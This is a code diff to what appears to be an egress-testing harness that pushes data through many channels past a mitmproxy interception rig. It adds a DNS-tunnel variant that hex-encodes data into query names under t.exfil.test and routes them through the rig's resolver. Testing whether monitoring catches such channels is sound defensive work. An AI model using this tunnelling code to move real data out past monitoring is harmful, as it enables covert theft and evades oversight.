@@ -126,16 +126,22 @@ def proxy_name_of_reads(run_dir: Path, ca: str, host: str) -> None:
             raise ConnectionError("closed")
 
 
-def dns_tunnel(run_dir: Path, ca: str, host: str) -> None:
+def dns_tunnel(run_dir: Path, ca: str, host: str, server: str = "") -> None:
+    """Reads hex-encoded in the names of DNS queries to the cloud's resolver (``server``: to this one)."""
     import dns.message
     import dns.query
 
-    server = socket.gethostbyname(host)
+    server = server or socket.gethostbyname(host)
     for n, read in enumerate(reads(run_dir, "PT9936", 12)):
         hexed = read[:76].encode().hex()
         labels = [hexed[i:i + 60] for i in range(0, len(hexed), 60)]
         name = ".".join([*labels, f"r{n}", "t.exfil.test"])
         dns.query.udp(dns.message.make_query(name, "A"), server, port=53, timeout=10)
+
+
+def dns_tunnel_via_the_rig(run_dir: Path, ca: str, host: str) -> None:
+    """The same through mitmproxy's own resolver in WireGuard mode (the printed client config's DNS)."""
+    dns_tunnel(run_dir, ca, host, "10.0.0.53")
 
 
 def udp(run_dir: Path, ca: str, host: str) -> None:
@@ -168,7 +174,7 @@ def sftp(run_dir: Path, ca: str, host: str) -> None:
 SCENARIOS = {"curl": curl, "chunked-gzip": chunked_gzip, "s3": s3, "websocket": websocket, "grpc": grpc_call,
              "raw-tls": raw_tls, "dns": dns_tunnel, "udp": udp, "sftp": sftp, "status": status,
              "status-elsewhere": status_elsewhere, "raw-status": raw_status, "raw-status-elsewhere": raw_status_elsewhere,
-             "proxy-name-of-reads": proxy_name_of_reads}
+             "proxy-name-of-reads": proxy_name_of_reads, "dns-via-the-rig": dns_tunnel_via_the_rig}
 
 
 def main(scenario: str, run_dir: str, ca: str, host: str) -> int:
